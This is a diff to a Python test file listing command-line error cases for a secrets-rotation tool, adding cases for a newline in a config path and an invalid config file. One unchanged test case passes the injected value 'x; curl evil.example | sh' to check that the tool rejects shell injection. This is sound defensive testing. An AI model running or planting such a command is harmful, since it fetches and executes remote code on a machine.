@@ -56,6 +56,14 @@ CASES: dict[str, Case] = {
     "unknown-command": Case((CANARY,), "invalid choice"),
     "missing-argument": Case(("plan",), "the following arguments are required: --stack"),
     "control-character-stack": Case(("preflight", "--stack", "\r"), "is not a secret-chain stack name"),
+    "newline-in-a-path": Case(("preflight", "--stack", "production", "--config", "{tmp}/no\nsuch"), "cannot read config file"),
+    "many-problems-one-line": Case(
+        ("plan", "--stack", "production", "--config", "{tmp}/c.json"),
+        "is not valid",
+        (("c.json", b'{"secret-chain:escEnvironment": {"value": "acme/secret-chain/Production", "secret": false}, '
+                    b'"secret-chain:parts": {"value": "[\\"GhcrPullSecret\\", \\"PrometheusAuth\\"]", "objectValue": '
+                    b'["GhcrPullSecret", "PrometheusAuth"], "secret": false}}'),),
+    ),
     # secret-chain:escEnvironment and --esc-environment are pasted into printed commands: only a reference passes
     "esc-environment-shell": Case(("rotation", "--state", str(STATE), "--esc-environment", "x; curl evil.example | sh"), "<org>/<project>/<env>"),
 }
